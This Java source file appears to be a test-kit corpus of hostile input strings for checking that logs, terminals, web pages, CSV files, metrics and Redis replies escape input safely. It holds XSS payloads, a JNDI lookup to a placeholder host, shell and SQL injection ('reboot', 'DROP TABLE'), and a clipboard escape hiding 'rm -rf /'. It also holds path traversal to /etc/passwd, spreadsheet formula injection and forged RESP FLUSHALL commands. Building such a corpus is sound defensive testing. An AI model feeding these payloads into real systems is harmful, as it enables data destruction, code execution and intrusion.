package io.heatshield.testkit.keys;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;

/**
 * The corpus of nasty keys that tests send through every sink: logs, terminals, pages, labels,
 * headers, CSV, replies.
 *
 * <p>For a parameterized test: {@code @MethodSource("io.heatshield.testkit.keys.NastyKeys#all")}.
 * Names and bytes are all different, so the corpus also finds an encoding that is not injective.
 */
public final class NastyKeys {
  private static final int MEBIBYTE = 1 << 20;

  private static final List<NastyKey> ALL =
      List.of(
          // Terminals
          text("ANSI colour", "\u001b[31mred\u001b[0m"),
          text("ANSI clear screen", "\u001b[2J\u001b[H"),
          text("ANSI cursor up and overwrite", "bad\u001b[1A\u001b[2Kgood"),
          text("OSC window title", "\u001b]0;owned\u0007"),
          text("OSC hyperlink", "\u001b]8;;http://x.invalid\u001b\\link\u001b]8;;\u001b\\"),
          text("OSC clipboard", "\u001b]52;c;cm0gLXJmIC8=\u0007"),
          text("DCS device control", "\u001bP$q\"p\u001b\\"),
          hex("C1 control sequence in one byte", "9b33316d"),
          text("C1 control sequence as UTF 8", "\u009b31m"),
          text("backspaces", "evil\b\b\b\bgood"),
          text("bell", "\u0007"),
          text("delete", "a\u007fb"),
          text("carriage return overwrites", "hidden\rshown"),
          text("form feed and vertical tab", "a\f\u000bb"),
          // Lines and logs
          text("CR LF", "a\r\nb"),
          text("LF", "a\nb"),
          text("forged log line", "x\n2026-11-15 00:00:00 ERROR all is lost"),
          text("forged JSON log line", "x\"}\n{\"level\":\"ERROR\",\"message\":\"lost\"}"),
          text("next line", "a\u0085b"),
          text("line separator", "a\u2028b"),
          text("paragraph separator", "a\u2029b"),
          text("tab", "a\tb"),
          text("NUL", "a\0b"),
          text("only NUL", "\0"),
          // Invisible characters
          text("right to left override", "user\u202egnp.exe"),
          text("bidi isolates", "a\u2066b\u2067c\u2069d"),
          text("right to left mark", "a\u200fb"),
          text("Arabic letter mark", "a\u061cb"),
          text("zero width space", "ad\u200bmin"),
          text("zero width joiner", "ad\u200dmin"),
          text("word joiner", "ad\u2060min"),
          text("byte order mark", "\ufeffadmin"),
          text("soft hyphen", "ad\u00admin"),
          text("Hangul filler", "\u3164"),
          text("no break space", "a\u00a0b"),
          text("ideographic space", "a\u3000b"),
          text("tag characters", "a" + Character.toString(0xe0041) + Character.toString(0xe007f)),
          text("variation selector", "a\ufe0fb"),
          text("stacked combining marks", "a\u0300\u0301\u0302\u0303\u0304\u0489b"),
          text("private use", "a\ue000b"),
          text("noncharacter", "a\uffffb"),
          text("annotation anchor", "a\ufff9b\ufffac\ufffbd"),
          text("replacement character itself", "\ufffd"),
          // Different keys that look alike
          text("admin", "admin"),
          text("Cyrillic lookalike of admin", "\u0430dmin"),
          text("fullwidth lookalike of admin", "\uff41dmin"),
          text("admin with a space after", "admin "),
          text("admin with a space before", " admin"),
          text("admin in capitals", "ADMIN"),
          text("e acute composed", "caf\u00e9"),
          text("e acute decomposed", "cafe\u0301"),
          text("Angstrom sign", "\u212b"),
          text("A with ring", "\u00c5"),
          text("dotless i", "\u0131"),
          text("sharp s", "stra\u00dfe"),
          text("beyond the basic plane", Character.toString(0x1f525)),
          // HTML
          text("image with onerror", "<img src=x onerror=alert(1)>"),
          text("script", "<script>alert(1)</script>"),
          text("breaks out of an attribute", "\" onmouseover=\"alert(1)"),
          text("breaks out of a quoted attribute", "' onmouseover='alert(1)"),
          text("ends a script block", "</script><svg/onload=alert(1)>"),
          text("HTML comment", "<!-- --!><b>"),
          text("entity", "&lt;b&gt;&#x3c;&amp;"),
          text("javascript address", "javascript:alert(1)"),
          text("template braces", "{{7*7}}"),
          text("expression braces", "${7*7}#{7*7}<%= 7*7 %>"),
          // Formats
          text("forged metric", "\"\n# HELP forged forged\n# TYPE forged counter\nforged 1\n"),
          text("ends a label", "\"} 1\nforged{x=\""),
          text("backslash at the end", "a\\"),
          text("escaped by hand", "a\\x0ab"),
          text("spreadsheet formula", "=cmd|' /C calc'!A1"),
          text("spreadsheet formula with plus", "+1+1"),
          text("spreadsheet formula with at", "@SUM(1+1)"),
          text("CSV fields", "a,\"b\"\"c\",d"),
          text("format verbs", "%n%s%x%999999999d"),
          text("message braces", "{} {0}"),
          text("JNDI lookup", "${jndi:ldap://x.invalid/a}"),
          text("environment lookup", "${PATH}"),
          text("path upwards", "../../etc/passwd"),
          text("path upwards encoded", "..%2f..%2fetc%2fpasswd%00.png"),
          text("backslash path", "..\\..\\windows\\win.ini"),
          text("shell", "$(reboot);`reboot`|reboot&"),
          text("SQL", "'; DROP TABLE keys; --"),
          text("YAML tag", "!!javax.script.ScriptEngineManager []"),
          text("option", "--help"),
          text("address with another host", "//x.invalid/%0d%0aSet-Cookie:a=b"),
          text("forged header", "x\r\nSet-Cookie: a=b\r\n\r\n<b>"),
          // Redis and key encodings
          text("forged RESP reply", "\r\n+OK\r\n"),
          text("forged RESP command", "x\r\n*1\r\n$8\r\nFLUSHALL\r\n"),
          text("hash tag", "{a}b"),
          text("empty hash tag", "{}a"),
          text("glob", "*[a-z]?"),
          text("joined one way", "a_b_c"),
          text("joined with NUL", "a\0b\0c"),
          text("a number", "007"),
          text("not a number", "NaN"),
          text("null as a word", "null"),
          text("prototype", "__proto__"),
          // Bytes that are not valid UTF-8
          hex("empty", ""),
          hex("lone continuation byte", "80"),
          hex("cut sequence", "61e282"),
          hex("bytes that UTF 8 never uses", "fffec0c1f5"),
          hex("overlong slash in two bytes", "c0af"),
          hex("overlong slash in three bytes", "e080af"),
          hex("overlong NUL", "c080"),
          hex("overlong script", "c0bc736372697074c0be"),
          hex("lone high surrogate", "eda080"),
          hex("lone low surrogate", "edb080"),
          hex("surrogate pair as six bytes", "eda0bdedb4a5"),
          hex("above the last code point", "f4908080"),
          hex("five byte sequence", "f888808080"),
          hex("UTF 16 text", "fffe3c0062003e00"),
          hex("bad byte hides a quote", "c322"),
          new NastyKey("every byte", everyByte()),
          // Sizes
          repeated("512 bytes", 'k', 512),
          repeated("513 bytes", 'k', 513),
          text("character across byte 512", "k".repeat(511) + "\u20ac"),
          repeated("64 KiB and one byte", 'k', (1 << 16) + 1),
          repeated("one MiB of letters", 'k', MEBIBYTE),
          repeated("one MiB of escapes", '\u001b', MEBIBYTE),
          repeated("one MiB of NUL", '\0', MEBIBYTE));

  private NastyKeys() {}

  /** Returns the whole corpus. */
  public static List<NastyKey> all() {
    return ALL;
  }

  private static NastyKey text(String name, String text) {
    return new NastyKey(name, text.getBytes(StandardCharsets.UTF_8));
  }

  private static NastyKey hex(String name, String hex) {
    return new NastyKey(name, HexFormat.of().parseHex(hex));
  }

  private static NastyKey repeated(String name, char letter, int length) {
    byte[] bytes = new byte[length];
    Arrays.fill(bytes, (byte) letter);
    return new NastyKey(name, bytes);
  }

  private static byte[] everyByte() {
    byte[] bytes = new byte[256];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = (byte) i;
    }
    return bytes;
  }
}
